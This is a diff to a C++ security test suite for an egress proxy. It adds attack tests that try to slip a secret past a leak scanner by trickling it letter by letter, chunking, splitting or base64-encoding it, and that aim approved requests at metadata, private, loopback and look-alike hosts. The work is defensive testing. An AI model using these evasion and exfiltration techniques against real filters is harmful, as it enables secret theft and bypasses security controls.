@@ -1,7 +1,11 @@
 #include "core/egress/Injector.h"
 #include "core/egress/Tls.h"
+#include "core/leaks/Watch.h"
 #include "tests/security/Attack.h"
 #include "tests/security/EgressFixture.h"
+#include "tests/unit/LeaksKit.h"
+
+#include <QRegularExpression>
 
 using namespace egresskit;
 using attack::Attack;
@@ -426,6 +430,8 @@ public:
         m_text += bytes;
         return m_text.contains("AKIA-LEAK");
     }
+    bool finish() override { return m_text.contains("AKIA-LEAK"); }
+    [[nodiscard]] qint64 safeBytes() const override { return m_text.size(); }
 
 private:
     QByteArray m_text;
@@ -444,6 +450,81 @@ Attack leaks(const char* name, const char* path, const char* header, const char*
                     "Content-Length: " + QByteArray::number(qstrlen(body)) + "\r\n\r\n" + body);
                 return succeededIf(server.asked().contains("AKIA-LEAK"));
             }};
+}
+
+/// A proxy that knows the value as the program does, before a server that anybody may use.
+struct Watched
+{
+    static inline const QByteArray value = "Fk3xT9vQ2mZr8LpWwN5cYb7Dq";
+
+    Server server{[](const QByteArray&) { return ok("x"); }};
+    World world{{.allow = {u"a.test:*"_s}}};
+
+    Watched()
+    {
+        world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}, {u"93.184.216.34"_s}});
+        world.scanner = [] { return std::make_unique<ValueScanner>(); };
+    }
+    [[nodiscard]] QByteArray url() const
+    {
+        return "http://a.test:" + QByteArray::number(server.port) + "/";
+    }
+
+private:
+    class ValueScanner final : public BodyScanner
+    {
+    public:
+        bool feed(QByteArrayView bytes) override { return m_body.feed(bytes); }
+        bool finish() override { return m_body.finish(); }
+        [[nodiscard]] qint64 safeBytes() const override { return m_body.safeBytes(); }
+
+    private:
+        static sb::leaks::Watch watch()
+        {
+            const auto scanner = leakskit::knowing(value);
+            return {[scanner] { return scanner; }, {}};
+        }
+        sb::leaks::BodyWatch m_body{watch(), {}};
+    };
+};
+
+// A body that comes as slowly as its sender likes; the pauses are the attack. It wants the
+// beginning of the value to be gone before anybody can know what it is.
+Outcome trickled(const QByteArrayList& pieces, bool chunked)
+{
+    Watched watched;
+    Line line(watched.world.port);
+    QByteArray whole;
+    for (const QByteArray& piece : pieces) {
+        whole += piece;
+    }
+    line.write("POST " + watched.url() + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" +
+               (chunked ? QByteArray("Transfer-Encoding: chunked")
+                        : "Content-Length: " + QByteArray::number(whole.size())) +
+               "\r\n\r\n");
+    for (const QByteArray& piece : pieces) {
+        line.write(chunked ? QByteArray::number(piece.size(), 16) + "\r\n" + piece + "\r\n"
+                           : piece);
+        std::this_thread::sleep_for(std::chrono::milliseconds(5));
+    }
+    line.write(chunked ? "0\r\n\r\n" : "");
+    const QByteArray answer = line.readAll();
+    QByteArray arrived = watched.server.asked();
+    if (chunked) { // without the framing
+        static const QRegularExpression framing(u"\r\n([0-9a-f]+\r\n)?"_s);
+        arrived = QString::fromLatin1(arrived).remove(framing).toLatin1();
+    }
+    const bool refused = statusOf(answer) == 403;
+    return succeededIf(!refused || arrived.contains(Watched::value.first(4)));
+}
+
+QByteArrayList letters(const QByteArray& text)
+{
+    QByteArrayList all;
+    for (const char c : text) {
+        all.append(QByteArray(1, c));
+    }
+    return all;
 }
 
 Outcome frontThrough(const char* inside)
@@ -466,12 +547,94 @@ Outcome frontThrough(const char* inside)
     return succeededIf(through);
 }
 
+// A person let this one address through; every other check stands.
+Outcome approved(const QByteArray& host, const QStringList& addresses, const QString& listed = {})
+{
+    const auto server = treasury();
+    World world({.allow = listed.isEmpty() ? QStringList() : QStringList{listed}});
+    world.resolver.set(QString::fromLatin1(host), {addresses});
+    FetchRequest request;
+    const QString place = QString::fromLatin1(host) + u':' + QString::number(server->port);
+    request.url = u"http://"_s + place + u'/';
+    request.approved = place;
+    const auto reply = world.proxy->fetch(std::move(request), world.session, {}).wait();
+    return succeededIf(reply && reply->body.contains(kTreasure));
+}
+
+Outcome approvedRedirect()
+{
+    const auto treasures = treasury();
+    const QByteArray elsewhere =
+        "http://elsewhere.test:" + QByteArray::number(treasures->port) + "/";
+    Server server([elsewhere](const QByteArray&) {
+        return "HTTP/1.1 302 Found\r\nLocation: " + elsewhere + "\r\nContent-Length: 0\r\n\r\n";
+    });
+    World world(Rules{});
+    world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
+    world.resolver.set(u"elsewhere.test"_s, {{u"93.184.216.35"_s}});
+    FetchRequest request;
+    const QString place = u"a.test:"_s + QString::number(server.port);
+    request.url = u"http://"_s + place + u'/';
+    request.approved = place;
+    const auto reply = world.proxy->fetch(std::move(request), world.session, {}).wait();
+    return succeededIf(reply && reply->body.contains(kTreasure));
+}
+
 QList<Attack> otherAttacks()
 {
     return {
         leaks("egress.secret-in-the-address", "/?k=AKIA-LEAK", "", ""),
         leaks("egress.secret-in-a-header", "/", "X-Data: AKIA-LEAK\r\n", ""),
         leaks("egress.secret-in-the-body", "/", "", "data AKIA-LEAK data"),
+        {"egress.secret-letter-by-letter",
+         "egress.hold",
+         [] { return trickled(letters("k=" + Watched::value + "&x=1"), false); }},
+        {"egress.secret-letter-by-letter-in-chunks",
+         "egress.hold",
+         [] { return trickled(letters("k=" + Watched::value + "&x=1"), true); }},
+        {"egress.secret-cut-in-two",
+         "egress.hold",
+         [] {
+             return trickled({"k=" + Watched::value.first(20), Watched::value.sliced(20)}, false);
+         }},
+        {"egress.secret-coded-and-cut",
+         "egress.hold",
+         [] {
+             // Here the attacker wants the first half in base64.
+             const QByteArray coded = Watched::value.toBase64();
+             Watched watched;
+             Line line(watched.world.port);
+             line.write("POST " + watched.url() + " HTTP/1.1\r\nHost: x\r\nContent-Length: " +
+                        QByteArray::number(coded.size()) + "\r\n\r\n" + coded.first(24));
+             std::this_thread::sleep_for(std::chrono::milliseconds(50));
+             line.write(coded.sliced(24));
+             [[maybe_unused]] const QByteArray answer = line.readUntil("\r\n\r\n");
+             return succeededIf(watched.server.asked().contains(coded.first(16)));
+         }},
+        {"egress.secret-in-what-fetch-sends",
+         "egress.scan",
+         [] {
+             Watched watched;
+             FetchRequest request;
+             request.url = QString::fromLatin1(watched.url());
+             request.method = "POST";
+             request.body = "k=" + Watched::value;
+             (void)watched.world.proxy->fetch(std::move(request), watched.world.session, {}).wait();
+             return succeededIf(watched.server.asked().contains(Watched::value));
+         }},
+        {"egress.approved-metadata-address",
+         "egress.metadata",
+         [] { return approved("metadata.test", {u"169.254.169.254"_s}); }},
+        {"egress.approved-private-address",
+         "egress.private",
+         [] { return approved("inner.test", {u"10.0.0.1"_s}); }},
+        {"egress.approved-this-machine",
+         "egress.loopback",
+         [] { return approved("self.test", {u"127.0.0.1"_s}); }},
+        {"egress.approved-look-alike",
+         "egress.look-alike",
+         [] { return approved("xn--pypal-4ve.test", {u"93.184.216.34"_s}, u"paypal.test:*"_s); }},
+        {"egress.approved-redirects-elsewhere", "egress.redirects", approvedRedirect},
         {"egress.domain-fronting", "egress.sni", [] { return frontThrough("hidden.test"); }},
         {"egress.broken-hello",
          "egress.sni",
